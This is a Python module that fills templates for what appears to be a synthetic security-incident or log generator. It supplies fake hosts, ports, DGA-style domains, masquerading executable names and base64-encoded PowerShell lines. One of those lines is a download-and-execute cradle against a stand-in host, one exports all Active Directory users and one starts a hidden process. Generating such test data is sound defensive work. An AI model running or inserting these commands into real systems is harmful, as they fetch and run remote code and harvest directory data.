"""What goes into the holes of a template: names, addresses, numbers, each a function of the scene at hand."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import TypeVar

from .population import Host, Population
from .rules import Rule, Template

WORDS = (
    "invoice report budget contract schedule minutes offer payroll audit roadmap inventory proposal summary statement"
    " forecast agenda manual leaflet survey export"
).split()
TOOLS = (
    "svchost32 updater winhlp rundll winlogin msedgeupd chrm_setup agent helper tool setup client loader sync".split()
)
TASKS = "OneDriveSync GoogleUpdateTaskCore EdgeUpdater TelemetryAgent SyncHelper PrintAssist AudioHost NetMon".split()
BUCKETS = "acme-logs acme-backups acme-media acme-customer-exports acme-terraform acme-website".split()
ROLES = "deploy-pipeline support-readonly data-platform break-glass batch-worker".split()
STORES = "files.example dropspace.example bigfiles.example quickshare.test cloudbox.example".split()
COMMANDS = tuple(
    base64.b64encode(text.encode("utf-16-le")).decode()
    for text in (
        "IEX (New-Object Net.WebClient).DownloadString('http://login-hub7.example/a')",
        "Get-ADUser -Filter * | Export-Csv C:\\Users\\Public\\u.csv",
        "Start-Process -WindowStyle Hidden C:\\ProgramData\\agent.exe",
    )
)
T = TypeVar("T")
_CONSONANTS, _VOWELS = tuple("bcdfghjklmnpqrstvwxz"), tuple("aeiouy")


@dataclass(slots=True)
class Scene:
    """Who and where, while one incident is written."""

    rng: random.Random
    population: Population
    rule: Rule
    host: Host
    user: str
    outside: str
    domain: str
    activity: int = -1


def pick(rng: random.Random, choices: tuple[T, ...] | list[T]) -> T:
    """Return one of `choices`; several times faster than `random.choice`."""
    return choices[int(rng.random() * len(choices))]


def _hex(digits: int) -> Callable[[Scene], str]:
    top, form = 16**digits, f"%0{digits}x"
    return lambda scene: form % int(scene.rng.random() * top)


def _dga(scene: Scene) -> str:
    rng = scene.rng
    return "".join(pick(rng, _CONSONANTS) + pick(rng, _VOWELS) for _ in range(6)) + pick(rng, (".test", ".invalid"))


HOLES: dict[str, Callable[[Scene], str]] = {
    "user": lambda scene: scene.user,
    "host": lambda scene: scene.host.name,
    "host2": lambda scene: pick(scene.rng, scene.population.pools["server"].hosts).name,
    "dc": lambda scene: pick(scene.rng, scene.population.pools["controller"].hosts).name,
    "lan": lambda scene: pick(scene.rng, scene.population.pools["any"].hosts).ip,
    "ip": lambda scene: scene.outside,
    "domain": lambda scene: scene.domain,
    "dga": _dga,
    "cloudstore": lambda scene: pick(scene.rng, STORES),
    "hex": _hex(6),
    "hex2": _hex(2),
    "hex4": _hex(4),
    "hex8": _hex(8),
    "n": lambda scene: str(int(scene.rng.random() * 9000) + 1000),
    "pid": lambda scene: str(int(scene.rng.random() * 9000) * 4 + 400),
    "port": lambda scene: pick(scene.rng, ("4444", "8443", "2222", "9001", "53", "1080", "8081")),
    "file": lambda scene: f"{pick(scene.rng, WORDS)}_{int(scene.rng.random() * 90) + 10}",
    "exe": lambda scene: pick(scene.rng, TOOLS) + ".exe",
    "dll": lambda scene: pick(scene.rng, TOOLS) + ".dll",
    "task": lambda scene: pick(scene.rng, TASKS),
    "b64": lambda scene: pick(scene.rng, COMMANDS),
    "sid": lambda scene: f"S-1-5-21-2089612345-1417001333-{1000 + len(scene.user) * 37}",
    "bucket": lambda scene: pick(scene.rng, BUCKETS),
    "role": lambda scene: pick(scene.rng, ROLES),
}


@dataclass(frozen=True, slots=True)
class Filler:
    """A template whose holes are bound to their functions."""

    first: str
    rest: tuple[tuple[Callable[[Scene], str], str], ...]

    @classmethod
    def of(cls, template: Template) -> Filler:
        """Bind a template; an unknown hole is a mistake in the catalogue (`KeyError`)."""
        head, *tail = template.literals
        return cls(head, tuple((HOLES[hole], text) for hole, text in zip(template.holes, tail, strict=True)))

    def __call__(self, scene: Scene) -> str:
        """Return the text for a scene."""
        text = self.first
        for value, literal in self.rest:
            text += value(scene) + literal
        return text


def fillers(rule: Rule) -> tuple[tuple[tuple[str, Filler], ...], ...]:
    """Return every activity of a rule, ready to be filled."""
    return tuple(
        tuple((name, Filler.of(template)) for name, template in activity.values.items()) for activity in rule.activities
    )
